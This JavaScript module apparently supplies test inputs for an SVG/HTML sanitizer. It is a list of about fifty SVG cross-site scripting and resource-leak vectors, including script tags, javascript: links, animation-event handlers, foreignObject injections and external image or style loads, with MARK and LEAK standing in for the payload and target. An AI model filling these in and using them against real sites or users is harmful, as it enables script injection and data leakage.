// SVG: a document format with scripts, links and animation of its own.
export default String.raw`
<svg><script>MARK</script></svg>
<svg><script href="data:text/javascript,MARK"></script></svg>
<svg><script xlink:href="data:text/javascript,MARK"/></svg>
<svg><script>&#77;ARK;MARK</script></svg>
<svg><script><![CDATA[MARK]]></script></svg>
<svg><![CDATA[<script>MARK</script>]]></svg>
<svg><a href="javascript:MARK" class=auto><text y=10>x</text></a></svg>
<svg><a xlink:href="javascript:MARK" class=auto><circle r=9 /></a></svg>
<svg><a><animate attributeName=href values="javascript:MARK"/><text class=auto>x</text></a></svg>
<svg><a id=x class=auto><text>x</text></a><animate href=#x attributeName=href from="javascript:MARK" to=1 begin=0s /></svg>
<svg><a><set attributeName=href to="javascript:MARK"/><text class=auto>x</text></a></svg>
<svg><set attributeName=onmouseover to=MARK /></svg>
<svg><animate onbegin=MARK attributeName=x dur=1s></svg>
<svg><animate onend=MARK attributeName=x dur=1ms></svg>
<svg><set onbegin=MARK attributeName=x to=1 begin=0s></svg>
<svg><animateTransform onbegin=MARK attributeName=transform dur=1s></svg>
<svg><animateMotion onbegin=MARK dur=1s></svg>
<svg><discard onbegin=MARK></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>MARK</script></svg>#x"/></svg>
<svg><use href=LEAK#x /></svg>
<svg><use xlink:href="data:image/svg+xml;base64,PHN2Zy8+#x"/></svg>
<svg><image href=LEAK /></svg>
<svg><image xlink:href=x onerror=MARK /></svg>
<svg><feImage href=LEAK /></svg>
<svg><filter id=f><feImage xlink:href=LEAK /></filter><rect filter=url(#f) width=9 height=9 /></svg>
<svg><style>@import "LEAK";</style></svg>
<svg><style>*{background:url(LEAK)}</style></svg>
<svg><style><img src=x onerror=MARK></style></svg>
<svg><style>&lt;img src=x onerror=MARK&gt;</style></svg>
<svg><foreignObject><img src=x onerror=MARK></foreignObject></svg>
<svg><foreignObject><iframe srcdoc="<script>parent.MARK</script>"></iframe></foreignObject></svg>
<svg><foreignObject><body onload=MARK></foreignObject></svg>
<svg><foreignObject><script>MARK</script></foreignObject></svg>
<svg><desc><img src=x onerror=MARK></desc></svg>
<svg><title><img src=x onerror=MARK></title></svg>
<svg><desc><script>MARK</script></desc></svg>
<svg><handler type=text/javascript ev:event=load>MARK</handler></svg>
<svg><listener event=load handler=#x /></svg>
<svg><switch><foreignObject requiredExtensions=x><img src=x onerror=MARK></foreignObject></switch></svg>
<svg><metadata><img src=x onerror=MARK></metadata></svg>
<svg><p><img src=x onerror=MARK>
<svg><br><img src=x onerror=MARK>
<svg></p><img src=x onerror=MARK>
<svg><g><svg onload=MARK></svg></g></svg>
<svg/onload=MARK>
<svg
onload=MARK>
<svg xmlns:x="http://www.w3.org/1999/xhtml"><x:script>MARK</x:script></svg>
<svg><text><tspan onload=MARK onclick=MARK>x</tspan></text></svg>
<svg><font-face-uri href=LEAK /></svg>
<svg data-latex="\\href{javascript:MARK}{x}"><g data-latex="<img src=x onerror=MARK>"></g></svg>
<svg><mask><image href=LEAK /></mask></svg>
<svg><pattern id=p><image href=LEAK /></pattern><rect fill=url(#p) /></svg>`.trim().split(/\n(?=<)/);
